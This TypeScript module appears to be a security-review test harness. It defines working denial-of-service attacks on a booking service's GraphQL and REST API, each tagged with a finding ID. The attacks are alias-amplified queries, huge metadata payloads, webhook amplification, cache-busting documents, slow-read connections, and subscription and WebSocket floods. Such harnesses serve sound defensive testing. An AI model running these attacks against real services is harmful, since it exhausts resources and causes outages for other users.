import { createServer } from 'node:http';
import { once } from 'node:events';
import type { AddressInfo } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { z } from 'zod';
import type { Attacker, AttackRequest } from './client.ts';
import { floodSockets, type SocketAttack } from './socket.ts';
import { bobsBookingId, formatAttackKey, slotEventTypeId } from './world.ts';

export interface Attack {
  /** The finding of the security review, or the number of a decision. */
  finding: string;
  name: string;
  /** Returns a line about what the attacker got. */
  run: (attacker: Attacker) => Promise<string>;
}

const eve = formatAttackKey('eve');
const bob = formatAttackKey('bob');

const toGraphQL = (query: string, variables: object = {}, key?: string): AttackRequest => ({
  path: '/graphql',
  body: JSON.stringify({ query, variables }),
  ...(key && { key }),
});

const repeat = (count: number, line: (nth: number) => string) =>
  Array.from({ length: count }, (_, nth) => line(nth)).join(' ');

/** Many pages of the heaviest records in one answer: 60 MB for each alias of 500. */
const askManyPages = (aliases: number, first = 500) =>
  toGraphQL(
    `{ ${repeat(aliases, (nth) => `a${nth}: bookings(first: ${first}) { nodes { metadata responses } }`)} }`,
    {},
    eve,
  );

const createBooking = `mutation ($input: CreateBookingInput!) {
  createBooking(input: $input) { replayed }
}`;

/** 49,000 values in 196 KB at most. */
const askTinyValues = (value: string): AttackRequest => {
  const metadata = `{"a":[${Array<string>(49_000).fill(value).join()}]}`;
  const times = '"start":"2031-01-06T08:00:00Z","end":"2031-01-06T08:30:00Z"';
  const input = `{${times},"userId":2,"title":"x","metadata":${metadata}}`;
  const query = JSON.stringify(createBooking);
  return { path: '/graphql', body: `{"query":${query},"variables":{"input":${input}}}` };
};

let nextDocument = 0;
/** A valid document of 23 KB that nobody sent before. */
const askNewDocument = () =>
  toGraphQL(
    `{ bookings(first: 1) { nodes { ${'title status '.repeat(1_750)} } } } # ${nextDocument++}`,
  );

/** A valid document of 19,990 characters that nobody sent before. */
const askKeptDocument = () => {
  const text = `{ viewer { name } } # ${nextDocument++} `;
  return toGraphQL(text.padEnd(19_990, 'x'));
};

const askSlots = (aliases: number, fields: string, key?: string) =>
  toGraphQL(
    `{ ${repeat(aliases, (nth) => `a${nth}: slots(eventTypeId: ${slotEventTypeId}, from: "2031-01-01", to: "2031-04-01", timeZone: "Etc/GMT+${nth % 12}") { ${fields} }`)} }`,
    {},
    key,
  );

/** One for each zone, so that no two share their work. */
const watchSlots = (nth: number): AttackRequest => ({
  path: `/graphql?query=${encodeURIComponent(
    `subscription { slotsChanged(eventTypeId: ${slotEventTypeId}, from: "2031-01-01", to: "2031-01-31", timeZone: "Etc/GMT+${nth % 12}") { dates } }`,
  )}`,
  isStream: true,
});

const createWebhook = `mutation ($input: CreateWebhookInput!) {
  createWebhook(input: $input) { webhook { id } }
}`;
const reschedule = `mutation ($input: RescheduleBookingInput!) {
  rescheduleBooking(input: $input) { booking { databaseId } }
}`;

/** A receiver of webhooks that counts what it gets. */
async function startReceiver() {
  const got = { deliveries: 0, bytes: 0 };
  const server = createServer((req, res) => {
    got.deliveries++;
    req.on('data', (chunk: Buffer) => (got.bytes += chunk.length)).on('end', () => res.end());
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  const close = () => {
    server.close();
    server.closeAllConnections();
  };
  return { got, url: `http://127.0.0.1:${port}`, close };
}

const Rescheduled = z.object({
  data: z.object({
    rescheduleBooking: z.object({ booking: z.object({ databaseId: z.number() }) }),
  }),
});

/** Twenty webhooks that repeat the largest field, and five changes of one booking. */
const amplify =
  (times: number) =>
  async ({ ask }: Attacker): Promise<string> => {
    const { got, url, close } = await startReceiver();
    const payloadTemplate = `[${Array<string>(times).fill('"{{metadata.a}}"').join()}]`;
    for (let nth = 0; nth < 20; nth++) {
      const subscriberUrl = `${url}/${nth}`;
      const input = { subscriberUrl, eventTriggers: ['BOOKING_RESCHEDULED'], payloadTemplate };
      await ask(toGraphQL(createWebhook, { input }, bob));
    }
    let databaseId = bobsBookingId;
    for (let day = 1; day <= 5; day++) {
      const input = { by: { databaseId }, start: `2032-01-0${day}T08:00:00Z` };
      const answer = Rescheduled.parse(await ask(toGraphQL(reschedule, { input }, bob)));
      databaseId = answer.data.rescheduleBooking.booking.databaseId;
    }
    await sleep(20_000);
    close();
    return `${got.deliveries} deliveries, ${formatMegabytes(got.bytes)} MB sent`;
  };

const formatMegabytes = (bytes: number) => (bytes / 1_048_576).toFixed(0);

/** Uses the budget of the address up, and then sends what is expensive to read. */
async function sendWithoutBudget({ flood }: Attacker): Promise<string> {
  await flood(8, 8, () => askSlots(12, 'timeZone'));
  await flood(8, seconds, askNewDocument);
  return '8 connections';
}

const seconds = 12;

const floodWith =
  (connections: number, next: () => AttackRequest) =>
  async ({ flood }: Attacker) => {
    await flood(connections, seconds, next);
    return `${connections} connections`;
  };

/** Longer than a client may go without reading. */
const unreadSeconds = 40;

const leaveUnread =
  (connections: number, asked: AttackRequest) =>
  async ({ holdUnread }: Attacker) => {
    const requests = Array.from({ length: connections }, () => asked);
    const left = await holdUnread(requests, unreadSeconds);
    return `${left} of ${connections} connections open after ${unreadSeconds} s`;
  };

const watch = async ({ holdStreams }: Attacker) => {
  const streams = Array.from({ length: 20 }, (_, nth) => watchSlots(nth));
  const left = await holdStreams(streams, unreadSeconds);
  return `${left} of 20 streams open after ${unreadSeconds} s`;
};

const sendOverSockets =
  (attack: SocketAttack, time: number) =>
  async ({ target }: Attacker) => {
    const left = await floodSockets(target, attack, time);
    return `${left} of ${attack.sockets} sockets open after ${time} s`;
  };

const emptyObjects = askTinyValues('{}');
const zeros = askTinyValues('0');

export const attacks: readonly Attack[] = [
  { finding: 'H1', name: 'answers of 360 MB', run: floodWith(2, () => askManyPages(6)) },
  { finding: 'H1', name: 'answers of 1.5 GB', run: floodWith(2, () => askManyPages(25)) },
  { finding: 'H1', name: 'GraphQL answers nobody reads', run: leaveUnread(12, askManyPages(6)) },
  {
    finding: 'H1',
    name: 'REST lists nobody reads',
    run: leaveUnread(20, { path: '/v1/bookings', key: eve }),
  },
  { finding: 'H2', name: '49,000 empty objects', run: floodWith(6, () => emptyObjects) },
  { finding: 'H2', name: '49,000 zeros', run: floodWith(6, () => zeros) },
  { finding: 'H3', name: 'webhooks of 1 MB', run: amplify(17) },
  { finding: 'H3', name: 'webhooks of 240 KB', run: amplify(4) },
  { finding: 'M1', name: 'documents without budget', run: sendWithoutBudget },
  { finding: 'M1', name: 'documents that are kept', run: floodWith(4, askKeptDocument) },
  { finding: 'M2', name: 'slots without a key', run: floodWith(2, () => askSlots(12, 'timeZone')) },
  {
    finding: 'M2',
    name: 'slots with a key',
    run: floodWith(4, () => askSlots(25, 'days { date slots { start end } }', bob)),
  },
  { finding: 'M2', name: 'streams of slots', run: watch },
  {
    finding: '037',
    name: 'WebSockets nobody reads',
    run: sendOverSockets(
      { sockets: 12, perSecond: 20, isRead: false, next: () => askManyPages(1, 100) },
      unreadSeconds,
    ),
  },
  {
    finding: '037',
    name: 'operations over a WebSocket',
    run: sendOverSockets(
      { sockets: 1, perSecond: 180, isRead: true, next: () => askManyPages(1) },
      seconds,
    ),
  },
];
